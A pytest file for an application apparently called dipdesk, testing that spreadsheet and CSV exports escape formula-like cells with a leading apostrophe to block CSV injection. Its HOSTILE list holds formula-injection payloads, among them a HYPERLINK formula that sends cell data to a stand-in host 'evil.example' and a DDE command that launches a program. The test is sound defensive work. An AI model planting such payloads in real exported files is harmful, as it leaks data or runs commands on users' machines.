"""Imported `=HYPERLINK(…)` / `+cmd|…` cells never go out as live formulas (issue 17, item 8): every xlsx
export, the import error sheet and `list --format csv` write them with a leading `'` (OWASP), and an error
sheet imported again gets the values back as typed."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dipdesk.core.cells import formula_safe, formula_unsafe
from dipdesk.services.exports import export_rows
from dipdesk.store.db import open_database, transaction

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def db(tmp_path: Path) -> Path:
    from dipdesk.services.setup import first_run

    path = tmp_path / "site.sqlite3"
    eng = open_database(path)
    with transaction(eng) as s:
        first_run(s, "IPC1", "admin", "password-1234", "ผู้ดูแลระบบ")
    eng.dispose()
    return path


def cli(db: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "dipdesk", "--db", str(db), *argv],
        capture_output=True,
        text=True,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "HOME": str(db.parent)},
        timeout=300,
    )


def no_formula(path: Path) -> list[str]:
    """Every text cell of the workbook, checked to be text (never a formula)."""
    texts = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), (c.coordinate, c.value)
                    texts.append(c.value)
    return texts


def test_the_rule() -> None:
    for v in HOSTILE:
        assert formula_safe(v) == "'" + v and formula_unsafe(formula_safe(v)) == v
    for v in ("สมศรี", "0811111111", 5, None, "'quoted", "a=b"):
        assert formula_safe(v) == v and formula_unsafe(v) == v


def test_imports_exports_and_the_error_sheet_never_carry_live_formulas(db: Path, tmp_path: Path) -> None:
    src = tmp_path / "class.csv"  # a class list as a Google Form exports it: the cells are plain text
    with src.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["ชื่อ", "นามสกุล", "โทรศัพท์", "อีเมล"])
        for i, v in enumerate(HOSTILE):
            w.writerow([f"สมศรี{i}", v, f"08111111{i:02d}", "x@example.com"])
        w.writerow(["สมชาย", HOSTILE[0], "not a phone", "x@example.com"])  # rejected: to the error sheet
    errors = tmp_path / "errors.xlsx"
    r = cli(db, "import", "people", str(src), "--errors", str(errors))
    assert r.returncode in (0, 1), r.stderr
    texts = no_formula(errors)
    assert "'" + HOSTILE[0] in texts, texts
    # list --format csv
    r = cli(db, "list", "people", "--format", "csv", "--limit", "0")
    assert r.returncode == 0, r.stderr
    cells = [c for row in csv.reader(io.StringIO(r.stdout)) for c in row]
    assert "'" + HOSTILE[1] in cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    # the xlsx export every list, dashboard and report uses
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    out = tmp_path / "export.xlsx"
    export_rows(
        out,
        list(rows[0]),
        [{k: formula_unsafe(v) for k, v in row.items()} for row in rows],
        headers_th=list(rows[0]),
        title="=title",
    )
    assert "'" + HOSTILE[1] in no_formula(out)
    # the error sheet, fixed and imported again, keeps the value as typed
    fixed = load_workbook(errors)
    fws = fixed.worksheets[0]
    for row in fws.iter_rows(min_row=2):
        row[2].value = "0899999999"
    fixed.save(tmp_path / "fixed.xlsx")
    r = cli(db, "import", "people", str(tmp_path / "fixed.xlsx"))
    assert r.returncode == 0, r.stdout + r.stderr
    eng = open_database(db)
    with eng.connect() as conn:
        names = set(
            conn.exec_driver_sql("SELECT last_name_th FROM people WHERE first_name_th = 'สมชาย'").scalars()
        )
    eng.dispose()
    assert names == {HOSTILE[0]}
